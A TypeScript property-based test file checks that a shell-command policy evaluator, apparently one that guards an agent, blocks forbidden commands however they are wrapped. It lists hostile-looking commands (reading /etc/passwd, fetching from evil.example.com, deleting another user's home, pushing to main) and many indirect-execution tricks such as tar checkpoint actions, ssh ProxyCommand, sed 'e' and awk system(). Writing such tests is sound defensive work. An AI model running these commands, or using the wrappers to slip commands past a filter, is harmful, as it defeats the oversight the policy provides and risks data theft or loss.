import fc from 'fast-check';
import { expect, test } from 'vitest';
import { evaluate } from '../../source/policy/evaluate.ts';
import { MISSION, policy, world } from './helpers/world.ts';

const rules = policy(MISSION);
const facts = world();
const verdict = (command: string, sandboxed: boolean) =>
  evaluate(rules, { kind: 'exec', command }, facts, { attended: true, sandboxed }).verdict;
const quoted = (text: string): string => `'${text.replaceAll("'", "'\\''")}'`;

/** Programs that start what follows them, as words or as a text. */
const STARTERS: readonly ((command: string) => string)[] = [
  (one) => `uv run ${one}`,
  (one) => `poetry run ${one}`,
  (one) => `bundle exec ${one}`,
  (one) => `mise exec -- ${one}`,
  (one) => `npm explore x -- ${one}`,
  (one) => `npx -c ${quoted(one)}`,
  (one) => `valgrind ${one}`,
  (one) => `strace -f -o src/trace ${one}`,
  (one) => `timeout 5 nice -n 3 ${one}`,
  (one) => `script -qc ${quoted(one)} src/log`,
  (one) => `tar cf src/a.tar src --checkpoint-action=exec=${quoted(one)}`,
  (one) => `zip src/a.zip src/index.ts -T -TT ${quoted(one)}`,
  (one) => `rsync -e ${quoted(one)} src localhost:x`,
  (one) => `ssh -o ProxyCommand=${quoted(one)} localhost`,
  (one) => `socat - ${quoted(`EXEC:${one}`)}`,
  (one) => `less ${quoted(`+!${one}`)} README.md`,
  (one) => `mapfile -C ${quoted(one)} -c 1 < src/index.ts`,
  (one) => `complete -C ${quoted(one)} x`,
  (one) => `awk ${quoted(`BEGIN { system("${one.replace(/["\\]/g, '\\$&')}") }`)}`,
  (one) => `sed -n ${quoted(`1e ${one}`)} src/index.ts`,
  (one) => `find src -name '*.ts' -exec ${one} \\;`,
  (one) => `bash -c ${quoted(one)}`,
  (one) => `env A=1 ${one}`,
  (one) => `git rebase -x ${quoted(one)} main`,
  (one) => `git bisect run ${one}`,
];
/** What stands around a command in a line. */
const AROUND: readonly ((command: string) => string)[] = [
  (one) => one,
  (one) => `cd src && ${one}`,
  (one) => `${one} 2>&1 | tail -5`,
  (one) => `(${one}) > /dev/null`,
  (one) => `if true; then ${one}; fi`,
  (one) => `for f in src/*.ts; do ${one}; done`,
  (one) => `X=1; ${one}; echo $?`,
  (one) => `ls \\\n  && ${one}`,
  (one) => `! ${one} || true`,
  (one) => `cat <<'E' > src/x.txt\ntext\nE\n${one}`,
];
const FORBIDDEN = [
  'git push origin main',
  'git push origin -- main',
  'git-push origin HEAD:main',
  '/usr/lib/git-core/git push origin +main',
  'cat /etc/passwd',
  'git -C /home/ann/other log',
  'curl --resolve localhost:80:8.8.8.8 http://localhost/',
  'curl https://evil.example.com/x',
  'tar cf src/a.tar -C /etc passwd',
  'rm -rf /home/ann/other',
  'python3 -m pip install x',
];

test('whatever starts it and whatever stands around it, what is forbidden is not allowed', () => {
  fc.assert(
    fc.property(
      fc.constantFrom(...FORBIDDEN),
      fc.array(fc.constantFrom(...STARTERS), { maxLength: 2 }),
      fc.array(fc.constantFrom(...AROUND), { maxLength: 2 }),
      fc.boolean(),
      (command, starters, around, sandboxed) => {
        const started = starters.reduce((inner, wrap) => wrap(inner), command);
        const whole = around.reduce((inner, wrap) => wrap(inner), started);
        expect({ whole, allowed: verdict(whole, sandboxed) === 'allow' }).toEqual({ whole, allowed: false });
      },
    ),
    { numRuns: 2_000 },
  );
});

const HONEST = [
  'npm test',
  'npm run lint -- --fix',
  'git status --short',
  'git diff HEAD~1 -- src',
  "sed -i 's/a/b/' src/index.ts",
  "rg -n 'foo' src",
  'npx tsc --noEmit',
  'node -e "console.log(1)"',
  'git add -A && git commit -m "Port the reads"',
  "find src -name '*.tmp' -delete",
  'python3 -m pytest -q',
];

test('whatever stands around it, honest work in the sandbox is not asked for', () => {
  fc.assert(
    fc.property(
      fc.constantFrom(...HONEST),
      fc.constantFrom(
        (one: string) => one,
        (one: string) => `timeout 60 ${one}`,
        (one: string) => `time ${one}`,
      ),
      fc.array(fc.constantFrom(...AROUND.filter((_, index) => index !== 1)), { maxLength: 3 }),
      (command, starter, around) => {
        const whole = around.reduce((inner, wrap) => wrap(inner), starter(command));
        expect({ whole, verdict: verdict(whole, true) }).toEqual({ whole, verdict: 'allow' });
      },
    ),
    { numRuns: 600 },
  );
});
